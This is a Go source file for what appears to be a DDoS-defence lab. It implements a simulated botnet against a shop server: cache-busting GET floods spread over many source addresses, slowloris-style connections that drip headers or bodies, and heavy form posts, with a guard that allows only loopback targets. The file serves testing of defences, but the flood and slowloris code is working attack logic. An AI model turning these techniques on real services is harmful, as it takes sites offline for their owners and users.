package lab

import (
	"bufio"
	"context"
	"fmt"
	"io"
	"math/rand/v2"
	"net"
	"net/http"
	"net/netip"
	"net/url"
	"sync"
	"sync/atomic"
	"time"
)

// The attackers of the flood lab: what a botnet of a few dozen machines does.
const (
	flooders     = 32 // addresses
	floodHandsOf = 2  // connections of each
	floodBeat    = 20 * time.Millisecond
	floodAtOnce  = 50
	// Whoever is kept waiting hangs up and comes back: a flood does not wait.
	floodPatience = 250 * time.Millisecond
	slowSockets   = 200
	slowDrip      = 2 * time.Second
)

// flooder is the whole botnet.
type flooder struct {
	shop *url.URL
	seed uint64
	rate int

	requests, refused, slow atomic.Int64 // sent, cut, dripping
	mu                      sync.Mutex
	answers, heavy          map[int]int64
}

// Flood attacks a shop on loopback until ctx ends: rate requests a second, each
// with another parameter so that no cache helps, beside them connections that
// send their request a byte at a time, and so many senders of heavy forms.
func Flood(ctx context.Context, shop string, seed uint64, rate, heavy int) (FloodDone, error) {
	u, err := url.Parse(shop)
	if err != nil {
		return FloodDone{}, err
	}
	if to, err := netip.ParseAddrPort(u.Host); err != nil || !to.Addr().IsLoopback() {
		return FloodDone{}, fmt.Errorf("%s is not on loopback; this attacks nobody else", shop)
	}
	f := &flooder{shop: u, seed: seed, rate: max(rate, 1), answers: map[int]int64{}, heavy: map[int]int64{}}
	began := time.Now()
	var wg sync.WaitGroup
	for i := range flooders * floodHandsOf {
		wg.Go(func() { f.hand(ctx, i) })
	}
	for i := range slowSockets {
		wg.Go(func() { f.drip(ctx, i) })
	}
	for i := range heavy {
		wg.Go(func() { f.post(ctx, i) })
	}
	wg.Wait()
	return FloodDone{Requests: f.requests.Load(), Refused: f.refused.Load(), Slow: f.slow.Load(), Answers: f.answers, Heavy: f.heavy, Seconds: time.Since(began).Seconds()}, nil
}

func (f *flooder) dial(ctx context.Context, i int) (net.Conn, error) {
	from := source(f.seed, "flooder", i)
	d := net.Dialer{Timeout: 5 * time.Second, LocalAddr: net.TCPAddrFromAddrPort(netip.AddrPortFrom(from, 0))}
	return d.DialContext(ctx, "tcp", f.shop.Host)
}

// hand sends its share of the requests, several at once on each beat, on one
// connection after the other.
func (f *flooder) hand(ctx context.Context, i int) {
	r := rand.New(rand.NewPCG(f.seed, uint64(i)))
	due := &floodDue{perSecond: float64(f.rate) / (flooders * floodHandsOf), since: time.Now()}
	for ctx.Err() == nil {
		conn, err := f.dial(ctx, i%flooders)
		if err != nil {
			f.refused.Add(1)
			wait(ctx, 50*time.Millisecond)
			continue
		}
		f.volleys(ctx, conn, r, due)
		conn.Close()
	}
}

// floodDue is how many requests a hand has still to send.
type floodDue struct {
	perSecond, owed float64
	since           time.Time
}

func (d *floodDue) take() int {
	now := time.Now()
	d.owed = min(d.owed+d.perSecond*now.Sub(d.since).Seconds(), floodAtOnce)
	d.since = now
	n := int(d.owed)
	d.owed -= float64(n)
	return n
}

func (f *flooder) volleys(ctx context.Context, conn net.Conn, r *rand.Rand, due *floodDue) {
	stop := context.AfterFunc(ctx, func() { conn.Close() })
	defer stop()
	answers := bufio.NewReader(conn)
	beat := time.NewTicker(floodBeat)
	defer beat.Stop()
	for ctx.Err() == nil {
		n := due.take()
		var out []byte
		for range n {
			out = fmt.Appendf(out, "GET /products/hojicha?cb=%d HTTP/1.1\r\nHost: %s\r\nUser-Agent: %s\r\nAccept: text/html,*/*;q=0.8\r\n\r\n",
				r.Uint32(), f.shop.Host, profiles()[3].agent)
		}
		if _, err := conn.Write(out); err != nil {
			f.refused.Add(1)
			return
		}
		f.requests.Add(int64(n))
		for range n {
			conn.SetReadDeadline(time.Now().Add(floodPatience))
			if !f.answer(answers) {
				return
			}
		}
		select {
		case <-ctx.Done():
		case <-beat.C:
		}
	}
}

// answer reads one; false means that the connection has ended.
func (f *flooder) answer(r *bufio.Reader) bool {
	res, err := http.ReadResponse(r, nil)
	if err != nil {
		f.refused.Add(1)
		return false
	}
	_, err = io.Copy(io.Discard, res.Body)
	res.Body.Close()
	f.mu.Lock()
	defer f.mu.Unlock()
	f.answers[res.StatusCode]++
	return err == nil && !res.Close
}

// drip holds a connection with a request that never ends: half of them in the
// headers, half in the body.
func (f *flooder) drip(ctx context.Context, i int) {
	for ctx.Err() == nil {
		conn, err := f.dial(ctx, i%flooders)
		if err != nil {
			wait(ctx, time.Second)
			continue
		}
		f.slow.Add(1)
		stop := context.AfterFunc(ctx, func() { conn.Close() })
		f.dripInto(ctx, conn, i%2 == 0)
		stop()
		conn.Close()
	}
}

func (f *flooder) dripInto(ctx context.Context, conn net.Conn, headers bool) {
	begin := fmt.Sprintf("POST /contact HTTP/1.1\r\nHost: %s\r\nUser-Agent: %s\r\n", f.shop.Host, profiles()[0].agent)
	if !headers {
		begin += "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 10000\r\n\r\n"
	}
	if _, err := io.WriteString(conn, begin); err != nil {
		return
	}
	gone := make(chan struct{})
	go func() { io.Copy(io.Discard, conn); close(gone) }()
	for {
		select {
		case <-ctx.Done():
			return
		case <-gone:
			return
		case <-time.After(slowDrip):
		}
		drop := "a"
		if headers {
			drop = "X-A: b\r\n"
		}
		if _, err := io.WriteString(conn, drop); err != nil {
			return
		}
	}
}
